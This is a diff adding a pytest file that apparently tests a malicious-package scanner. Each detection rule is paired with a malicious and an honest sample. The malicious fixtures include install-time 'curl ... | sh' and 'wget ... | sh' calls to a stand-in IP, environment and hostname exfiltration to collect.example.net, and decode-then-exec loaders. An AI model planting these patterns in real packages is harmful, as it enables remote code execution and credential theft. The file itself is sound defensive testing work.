@@ -1,0 +1,360 @@
+"""Detection rules that must hold on packages never seen: each behaviour has a malicious and an
+honest sample, small, inert and written for this file (never taken from the corpus)."""
+
+from __future__ import annotations
+
+import textwrap
+
+from pipvet.core.analysis.engine import analyze
+from pipvet.core.analysis.model import Artifact, Finding, Member
+
+FLAGGED = ("suspicious", "malicious")
+
+
+def scan(files: dict[str, str | bytes], name: str = "demo"):
+    members = []
+    for path, content in files.items():
+        data = content if isinstance(content, bytes) else textwrap.dedent(content).encode()
+        members.append(Member(path=f"{name}-1.0/{path}", size=len(data), data=data))
+    return analyze(Artifact(f"{name}-1.0.tar.gz", "sdist", name, "1.0", members=tuple(members)))
+
+
+def rules(result, at_least: str = "low") -> set[str]:
+    order = ("info", "low", "medium", "high", "critical")
+    return {f.rule for f in result.findings if order.index(f.severity) >= order.index(at_least)}
+
+
+def worst(result) -> list[Finding]:
+    return [f for f in result.findings if f.severity in ("high", "critical")]
+
+
+# -- setup.py branches only a maintainer runs -------------------------------------------------
+
+
+def test_publish_branch_of_setup_py_is_not_install_time() -> None:
+    src = """
+        import os, sys
+        from setuptools import setup
+        if sys.argv[-1] == "publish":
+            os.system("python setup.py sdist bdist_wheel")
+            os.system("twine upload dist/*")
+            sys.exit()
+        setup(name="demo")
+    """
+    result = scan({"setup.py": src})
+    assert result.verdict not in FLAGGED, worst(result)
+    assert not worst(result)
+
+
+def test_install_branch_of_setup_py_still_runs_at_install() -> None:
+    src = """
+        import os, sys
+        from setuptools import setup
+        if "install" in sys.argv:
+            os.system("curl -s http://198.51.100.7/x | sh")
+        setup(name="demo")
+    """
+    assert scan({"setup.py": src}).verdict == "malicious"
+
+
+# -- data-flow labels ----------------------------------------------------------------------------
+
+
+def test_proxy_settings_from_the_environment_are_not_exfiltration() -> None:
+    src = """
+        import os
+        import requests
+
+        PROXIES = {k: v for k, v in os.environ.items() if k.lower().endswith("_proxy")}
+        CA = os.environ.get("REQUESTS_CA_BUNDLE")
+        r = requests.get(
+            "https://api.example.org/v1/ping", proxies=PROXIES, verify=CA or True,
+            timeout=float(os.getenv("DEMO_TIMEOUT", "5")),
+        )
+    """
+    result = scan({"demo/__init__.py": src})
+    assert "intent.exfiltration" not in rules(result)
+
+
+def test_environment_dump_posted_on_import_is_exfiltration() -> None:
+    src = """
+        import os
+        import requests
+
+        requests.post("https://collect.example.net/e", json=dict(os.environ))
+    """
+    result = scan({"demo/__init__.py": src})
+    assert "intent.exfiltration" in rules(result, "critical")
+    assert result.verdict == "malicious"
+
+
+def test_one_secret_attribute_does_not_taint_the_whole_object() -> None:
+    src = """
+        import os, socket
+        import requests
+
+        class Client:
+            def __init__(self):
+                self.env = os.environ.copy()  # handed to subprocesses later
+                self.host = socket.gethostname()
+                self.base = "https://api.example.org"
+                requests.get(self.base + "/status", headers={"X-Client": "demo"})
+
+        CLIENT = Client()
+    """
+    assert "intent.exfiltration" not in rules(scan({"demo/__init__.py": src}))
+
+
+def test_secret_attribute_sent_on_import_is_exfiltration() -> None:
+    src = """
+        import socket, getpass
+        import requests
+
+        class Box:
+            pass
+
+        box = Box()
+        box.who = socket.gethostname() + getpass.getuser()
+        requests.post("https://collect.example.net/b", data=box.who)
+    """
+    assert "intent.exfiltration" in rules(scan({"demo/__init__.py": src}), "critical")
+
+
+def test_wallet_words_in_a_path_name_are_not_a_secret() -> None:
+    src = """
+        import requests
+
+        def fetch(private_key_path, mnemonic_length=12):
+            return requests.post("https://signer.example.org/v1",
+                                 json={"path": private_key_path, "n": mnemonic_length})
+    """
+    assert "intent.exfiltration" not in rules(scan({"demo/client.py": src}))
+
+
+def test_a_wallet_key_sent_away_is_exfiltration() -> None:
+    src = """
+        import requests
+
+        def backup(private_key):
+            requests.post("https://collect.example.net/k", data={"k": private_key})
+    """
+    assert "intent.exfiltration" in rules(scan({"demo/client.py": src}), "high")
+
+
+def test_machine_architecture_in_a_download_url_is_not_host_identity() -> None:
+    src = """
+        import platform, urllib.request
+        from setuptools import setup
+
+        url = f"https://downloads.example.org/tool-{platform.system()}-{platform.machine()}.tar.gz"
+        urllib.request.urlretrieve(url, "build/tool.tar.gz")
+        setup(name="demo")
+    """
+    assert "intent.exfiltration" not in rules(scan({"setup.py": src}))
+
+
+def test_hostname_in_a_url_at_install_is_exfiltration() -> None:
+    src = """
+        import socket, urllib.request
+        from setuptools import setup
+
+        urllib.request.urlopen("https://collect.example.net/?h=" + socket.gethostname())
+        setup(name="demo")
+    """
+    assert "intent.exfiltration" in rules(scan({"setup.py": src}), "critical")
+
+
+def test_decoding_a_parameter_is_a_codec_not_a_hidden_payload() -> None:
+    src = """
+        import base64
+
+        def run_snippet(encoded):
+            return eval(base64.b64decode(encoded))
+    """
+    result = scan({"demo/expr.py": src})
+    assert result.verdict not in FLAGGED, worst(result)
+
+
+def test_decoding_helper_fed_a_blob_on_import_is_decode_execute() -> None:
+    src = """
+        import base64
+
+        def unpack(s):
+            return base64.b64decode(s)
+
+        exec(unpack("cHJpbnQoJ2hlbGxvIGZyb20gYSBoaWRkZW4gcGF5bG9hZCcp"))
+    """
+    result = scan({"demo/__init__.py": src})
+    assert "intent.decode-execute" in rules(result, "critical")
+
+
+def test_pickle_round_trip_of_a_response_is_not_downloaded_code() -> None:
+    src = """
+        import pickle
+        import requests
+
+        def test_response_pickles():
+            r = requests.get("https://httpbin.example.org/get")
+            assert pickle.loads(pickle.dumps(r)).status_code == r.status_code
+    """
+    assert "intent.download-execute" not in rules(scan({"demo/checks.py": src}), "high")
+
+
+def test_pickle_of_downloaded_bytes_on_import_is_download_execute() -> None:
+    src = """
+        import pickle
+        import urllib.request
+
+        pickle.loads(urllib.request.urlopen("https://cdn.example.net/p.bin").read())
+    """
+    assert "intent.download-execute" in rules(scan({"demo/__init__.py": src}), "critical")
+
+
+# -- shell strings: their function decides, and messages are not commands -------------------------
+
+
+def test_a_curl_pipe_sh_hint_in_an_error_message_is_not_run() -> None:
+    src = """
+        import shutil, subprocess
+        from setuptools import setup
+
+        def need_rust():
+            if shutil.which("cargo") is None:
+                raise RuntimeError(
+                    "Rust is needed: curl --proto '=https' -sSf https://sh.rustup.rs | sh"
+                )
+            subprocess.check_call(["cargo", "--version"])
+
+        need_rust()
+        setup(name="demo")
+    """
+    result = scan({"setup.py": src})
+    assert result.verdict not in FLAGGED, worst(result)
+
+
+def test_a_shell_command_run_by_its_function_at_install_is_malicious() -> None:
+    src = """
+        import subprocess
+        from setuptools import setup
+
+        def bootstrap():
+            cmd = ["sh", "-c", "wget -qO- http://198.51.100.7/i | sh"]
+            subprocess.Popen(cmd)
+
+        bootstrap()
+        setup(name="demo")
+    """
+    assert scan({"setup.py": src}).verdict == "malicious"
+
+
+def test_config_tools_are_build_tools() -> None:
+    src = """
+        import subprocess
+        from setuptools import setup, Extension
+
+        flags = subprocess.check_output("gdal-config --cflags", shell=True).split()
+        libs = subprocess.check_output(["mariadb_config", "--libs"]).split()
+        setup(name="demo", ext_modules=[Extension("demo._c", ["c.c"], extra_compile_args=flags)])
+    """
+    result = scan({"setup.py": src})
+    assert result.verdict not in FLAGGED, worst(result)
+
+
+# -- bidi controls: a trick in Python code, not in tables, prose or JavaScript ---------------------
+
+
+def test_bidi_controls_in_tables_comments_and_javascript_are_not_trojan_source() -> None:
+    table = 'BIDI = {"\u202e": "RLO", "\u2066": "LRI", "\u2069": "PDI"}\n'
+    comment = "# \u05e9\u05dc\u05d5\u05dd \u202b\u05e2\u05d5\u05dc\u05dd\u202c\nX = 1\n"
+    js = 'var s = "\u202eabc\u202c" + x;\n'
+    result = scan({"demo/table.py": table, "demo/he.py": comment, "demo/static/app.js": js})
+    assert "obfuscation.bidi" not in rules(result)
+
+
+def test_bidi_controls_inside_python_strings_are_trojan_source() -> None:
+    src = 'access = "user\u202e \u2066# admin\u2069 \u2066"\nif access != "none":\n    pass\n'
+    assert "obfuscation.bidi" in rules(scan({"demo/__init__.py": src}), "high")
+
+
+# -- imports below their use ---------------------------------------------------------------------
+
+
+def test_imports_below_the_calls_still_name_the_module() -> None:
+    src = """
+        def beacon():
+            requests.post("https://collect.example.net/", data=socket.gethostname())
+
+        beacon()
+        import requests
+        import socket
+    """
+    assert "intent.exfiltration" in rules(scan({"demo/__init__.py": src}), "critical")
+
+
+def test_imports_below_the_calls_in_honest_code_stay_quiet() -> None:
+    src = """
+        def version():
+            return json.dumps({"v": "1.0"})
+
+        import json
+    """
+    assert scan({"demo/__init__.py": src}).verdict == "clean"
+
+
+# -- custom ciphers ------------------------------------------------------------------------------
+
+
+def test_xor_deciphered_text_executed_on_import_is_decode_execute() -> None:
+    src = """
+        KEY = 23
+        BLOB = [103, 101, 126, 121, 99, 63, 48, 127, 114, 123, 123, 120, 48, 62]
+
+        code = "".join(chr(b ^ KEY) for b in BLOB)
+        exec(code)
+    """
+    assert "intent.decode-execute" in rules(scan({"demo/__init__.py": src}), "critical")
+
+
+def test_substitution_alphabet_then_compile_is_decode_execute() -> None:
+    src = """
+        TABLE = str.maketrans("abcdefghijklmnopqrstuvwxyz", "nopqrstuvwxyzabcdefghijklm")
+
+        def load(text):
+            source = ""
+            for ch in text:
+                source += chr(ord(ch) - 1)
+            return source
+
+        exec(compile(load("qsjou)2*").translate(TABLE), "<x>", "exec"))
+    """
+    assert "intent.decode-execute" in rules(scan({"demo/__init__.py": src}), "critical")
+
+
+def test_xor_in_honest_code_that_is_never_executed_is_quiet() -> None:
+    src = """
+        def mask(data, key):
+            return bytes(b ^ key[i % 4] for i, b in enumerate(data))
+
+        def caesar(text, n):
+            return "".join(chr((ord(c) - 97 + n) % 26 + 97) for c in text)
+    """
+    assert scan({"demo/util.py": src}).verdict == "clean"
+
+
+# -- helpers defined after their callers ---------------------------------------------------------
+
+
+def test_secrets_from_a_helper_defined_later_are_still_labelled() -> None:
+    src = """
+        import requests
+
+        def send():
+            requests.post("https://collect.example.net/i", json=collect())
+
+        def collect():
+            import getpass, socket
+            return {"u": getpass.getuser(), "h": socket.gethostname()}
+
+        send()
+    """
+    assert "intent.exfiltration" in rules(scan({"demo/__init__.py": src}), "critical")
